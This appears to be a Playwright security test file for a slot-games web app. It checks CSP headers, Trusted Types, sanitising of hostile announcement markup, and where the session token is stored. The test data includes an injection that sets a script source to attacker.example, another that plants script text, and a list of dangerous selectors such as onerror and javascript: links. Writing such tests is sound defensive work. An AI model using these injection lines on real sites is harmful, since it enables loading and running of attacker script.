import { expect, test } from "../support/fixtures.ts";
import { fill } from "../support/texts.ts";
import { card, playButton, shelf, signIn } from "../support/visitor.ts";

test.use({ language: "en" });

/** One path for every kind of page that the app's server serves. */
const PAGES = ["/", "/index.html", "/slot-games", "/no-such-page"];
const GAME = "Lantern Night";

test("D17 the content security policy of every page allows nothing unsafe", async ({ request, baseURL }) => {
  for (const path of PAGES) {
    const response = await request.get(`${baseURL}${path}`);
    const policy = response.headers()["content-security-policy"] ?? "";
    const directives = new Map(
      policy.split("; ").map((directive) => {
        const [name = "", ...values] = directive.split(" ");
        return [name, values] as const;
      }),
    );
    expect(policy).not.toMatch(/unsafe-|\*|data:|strict-dynamic/);
    expect(directives.get("default-src")).toEqual(["'none'"]);
    expect(directives.get("style-src")).toEqual(["'self'"]);
    expect(directives.get("connect-src")).toEqual(["'self'"]);
    expect(directives.get("base-uri")).toEqual(["'none'"]);
    expect(directives.get("frame-ancestors")).toEqual(["'none'"]);
    expect(directives.get("require-trusted-types-for")).toEqual(["'script'"]);
    expect(directives.get("trusted-types")).toEqual(["dompurify", "lobbykit-worker"]);
    expect(directives.get("script-src")?.every((source) => /^'self'$|^'sha256-[\w+/]+=*'$/.test(source))).toBe(true);
    expect(response.headers()["x-content-type-options"]).toBe("nosniff");
    expect(response.headers()["referrer-policy"]).toBe("strict-origin-when-cross-origin");
  }
});

test("R061 E1 a missing asset returns an uncached 404 instead of the page", async ({ request, baseURL }) => {
  for (const path of ["/assets/no-such-chunk.js", "/assets/"]) {
    const missing = await request.get(baseURL + path);
    expect(missing.status(), path).toBe(404);
    expect(missing.headers()["cache-control"], path).toBe("no-store");
    expect(await missing.text(), path).not.toContain("<html");
  }
});

test("D17 the server does not serve the build manifest", async ({ request, baseURL }) => {
  const answer = await request.get(`${baseURL}/.vite/manifest.json`);
  expect(await answer.text()).not.toContain("isDynamicEntry");
});

test.describe("injected code", () => {
  test.use({ expectedProblems: [/./] });

  test("D17 assigning a string to an HTML or script sink throws", async ({ page, problems }) => {
    await page.goto("/");
    const plants: Record<string, () => void> = {
      TrustedHTML: () => Reflect.set(document.createElement("div"), "innerHTML", "<b>planted</b>"),
      TrustedScriptURL: () => Reflect.set(document.createElement("script"), "src", "https://attacker.example/x.js"),
      TrustedScript: () => Reflect.set(document.createElement("script"), "text", "document.title = 'attacked'"),
    };
    for (const [type, plant] of Object.entries(plants)) {
      await expect(page.evaluate(plant)).rejects.toThrow(`requires '${type}' assignment`);
    }
    expect(problems.length).toBeGreaterThan(0);
  });
});

test.describe("markup from an attacker in an announcement", () => {
  // The sanitiser parses hostile markup in a separate document, where Chromium reports its inline attributes.
  test.use({
    expectedProblems: [
      /(?:style-src-(?:attr|elem)|script-src-attr) inline \S+\/assets\/|inline (?:style|event handler)/,
    ],
  });

  test("R167 D17 shows its text, runs no script and sends no request to another host", async ({ page, texts }) => {
    const strangers: string[] = [];
    page.on("request", (request) => {
      if (new URL(request.url()).hostname !== "localhost") strangers.push(request.url());
    });
    await page.goto("/");
    await page
      .getByRole("region", { name: texts.home.announcements, exact: true })
      .getByRole("button")
      .filter({ hasNotText: fill(texts.designSystem.pauseMotion, { name: texts.home.announcements }) })
      .first()
      .click();
    const dialog = page.getByRole("dialog", { name: texts.notices.title, exact: true });
    await dialog.getByRole("button", { name: "Service hours", exact: true }).click();
    const notice = dialog.getByRole("article");
    await expect(notice).toContainText("Service hours changed.");
    await expect(notice).toContainText("Thank you.");
    const dangerous =
      "img, script, svg, math, style, iframe, form, input, button, [style], [id], [onerror], a[href^=java]";
    // The content below the heading and the date comes from the server.
    await expect(notice.locator("> :last-child")).toContainText("Thank you.");
    await expect(notice.locator("> :last-child").locator(dangerous)).toHaveCount(0);
    for (const selector of dangerous.split(", ").filter((name) => name !== "[id]")) {
      await expect(notice.locator(selector), selector).toHaveCount(0);
    }
    await expect(page.locator("html")).not.toHaveAttribute("data-attacked");
    expect(strangers).toEqual([]);
  });
});

test("D5 the token is stored only in session storage, and is in no URL", async ({ page, texts }) => {
  const addresses: string[] = [];
  page.on("request", (request) => {
    addresses.push(request.url(), request.headers()["referer"] ?? "");
  });
  page.on("framenavigated", (frame) => addresses.push(frame.url()));
  await page.goto("/");
  await signIn(page, texts);
  const token = await page.evaluate(() => sessionStorage.getItem("token"));
  expect(token).toMatch(/^\S{20,}$/);
  await playButton(card(shelf(page, texts.home.hot), texts, GAME)).click();
  await expect(page.frameLocator("iframe").getByRole("heading", { level: 1 })).toBeVisible();
  expect(addresses.filter((address) => address.includes(token ?? ""))).toEqual([]);
  const elsewhere = await page.evaluate(() => JSON.stringify(localStorage) + document.cookie + document.body.innerHTML);
  expect(elsewhere).not.toContain(token);
  const slots = await page.evaluate(
    (value) => Object.keys(sessionStorage).filter((key) => sessionStorage.getItem(key)?.includes(value)),
    token ?? "",
  );
  expect(slots).toEqual(["token"]);
});
